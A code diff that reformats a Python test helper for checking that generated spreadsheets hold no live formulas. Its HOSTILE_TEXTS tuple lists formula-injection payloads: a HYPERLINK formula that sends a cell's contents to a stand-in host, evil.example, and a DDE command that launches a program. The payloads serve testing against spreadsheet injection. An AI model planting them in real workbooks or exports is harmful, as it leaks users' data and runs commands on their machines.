@@ -1,4 +1,5 @@
 """A written workbook read back as a spreadsheet program sees it: what it evaluates, and how a text shows."""
+
 import re
 import zipfile
 from io import BytesIO
@@ -7,18 +8,31 @@ from openpyxl import load_workbook
 
 # Names and titles a hostile or careless user might give, each of which a spreadsheet program runs or
 # evaluates when it is a formula (or a DDE command) rather than text.
-HOSTILE_TEXTS = ('=HYPERLINK("http://evil.example/?"&B2,"点击")', "=cmd|' /C calc'!A0", "+86 13800001111",
-                 "-2+3", "@SUM(1+1)")
+HOSTILE_TEXTS = (
+    '=HYPERLINK("http://evil.example/?"&B2,"点击")',
+    "=cmd|' /C calc'!A0",
+    "+86 13800001111",
+    "-2+3",
+    "@SUM(1+1)",
+)
 
 
 def formulas(data: bytes) -> list[str]:
     """Every formula in the workbook: the cells openpyxl reads as one, and any <f> element in a sheet's XML."""
     book = load_workbook(BytesIO(data))
-    cells = [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
-             if cell.data_type == "f"]
+    cells = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
     with zipfile.ZipFile(BytesIO(data)) as archive:
-        elements = [f"{name}: <f>" for name in archive.namelist()
-                    if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))]
+        elements = [
+            f"{name}: <f>"
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))
+        ]
     return cells + elements
 
 
